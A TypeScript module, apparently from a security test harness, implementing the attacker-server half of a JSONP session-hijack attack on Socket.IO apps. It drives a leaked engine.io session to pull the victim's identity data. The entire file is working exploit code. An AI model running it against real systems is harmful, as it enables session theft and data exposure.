import { request } from 'node:http';
import type { AttackOutcome } from './pages/attack-script.js';

/** engine.io v4 separates the packets of one polling payload with this record separator. */
const RECORD_SEPARATOR = '\x1e';
/** What the attacker's server sends: `whoami` as a Socket.IO event that asks for ack 1. */
const WHOAMI_WITH_ACK = '421["whoami",null]';
/** The ack of that event: engine.io message (`4`), Socket.IO ack (`3`), id 1. */
const WHOAMI_ACK = '431';
/** A JSONP polling answer: `___eio[<n>]("<payload>");`. */
const JSONP_ANSWER = /^___eio\[\d*\]\(("(?:[^"\\]|\\.)*")\);$/s;

/** How long the attacker's server drives one stolen session before it gives up. */
const HIJACK_TIMEOUT_MS = 10_000;

/**
 * The attacker's server side of the JSONP attack (`jsonpAttackScript`): it knows only the app's
 * origin and the engine.io session id the victim's browser leaked, and drives that session
 * over plain HTTP polling, sending neither cookie nor `Origin`. The app authenticated the
 * session from the handshake request (the victim's `<script>` GET, with the victim's
 * cookies), so connecting the main namespace and asking `whoami` answers with the victim's
 * data. Closes the session once it has the answer.
 */
export async function hijackStolenSession(appOrigin: string, sid: string): Promise<AttackOutcome> {
  const session = new StolenSession(appOrigin, sid, AbortSignal.timeout(HIJACK_TIMEOUT_MS));
  try {
    // Socket.IO CONNECT for the main namespace; the app answers with `40{"sid":…}`.
    await session.send('40');
    for (;;) {
      for (const packet of await session.poll()) {
        const outcome = await session.answer(packet);
        if (outcome !== undefined) return outcome;
      }
    }
  } catch (error) {
    return { relayFailed: error instanceof Error ? error.message : String(error) };
  }
}

class StolenSession {
  private readonly url: string;

  constructor(
    appOrigin: string,
    sid: string,
    private readonly signal: AbortSignal,
  ) {
    const query = new URLSearchParams({ EIO: '4', transport: 'polling', j: '0', sid });
    this.url = `${appOrigin}/socket.io/?${query.toString()}`;
  }

  /** Reacts to one engine.io packet; the outcome once the attack is over. */
  async answer(packet: string): Promise<AttackOutcome | undefined> {
    if (packet === '2') {
      await this.send('3'); // engine.io ping, pong
      return undefined;
    }
    if (packet === '1') return { closedBeforeAnswer: true, reason: 'transport close' };
    if (packet.startsWith('40')) {
      await this.send(WHOAMI_WITH_ACK); // connected to the namespace: ask
      return undefined;
    }
    if (packet.startsWith('44')) {
      const { message } = JSON.parse(packet.slice(2)) as { message: string };
      return { refused: true, connectError: message };
    }
    if (packet.startsWith('41'))
      return { closedBeforeAnswer: true, reason: 'io server disconnect' };
    if (packet.startsWith(WHOAMI_ACK)) {
      const [data] = JSON.parse(packet.slice(WHOAMI_ACK.length)) as unknown[];
      await this.send('1'); // done: close the engine.io session
      return { stolen: data };
    }
    return undefined; // noop and anything else
  }

  /** POSTs an engine.io packet the JSONP way: form-encoded as `d=<payload>`. */
  async send(packet: string): Promise<void> {
    await this.exchange('POST', new URLSearchParams({ d: packet }));
  }

  /** One long poll: the packets the app has for the session. */
  async poll(): Promise<string[]> {
    const answer = await this.exchange('GET');
    const match = JSONP_ANSWER.exec(answer);
    if (match === null) throw new Error(`not a JSONP polling answer: ${answer.slice(0, 80)}`);
    return (JSON.parse(match[1]!) as string).split(RECORD_SEPARATOR);
  }

  private exchange(method: 'GET' | 'POST', form?: URLSearchParams): Promise<string> {
    const body = form === undefined ? undefined : Buffer.from(form.toString());
    const headers =
      body === undefined
        ? {}
        : { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': body.length };
    return new Promise((resolve, reject) => {
      const outgoing = request(this.url, { method, headers, signal: this.signal }, (incoming) => {
        let text = '';
        incoming.setEncoding('utf8');
        incoming.on('data', (chunk: string) => (text += chunk));
        incoming.on('error', reject);
        incoming.on('end', () => {
          if (incoming.statusCode === 200) resolve(text);
          else reject(new Error(`${method} /socket.io/ answered HTTP ${incoming.statusCode}`));
        });
      });
      outgoing.on('error', reject);
      outgoing.end(body);
    });
  }
}
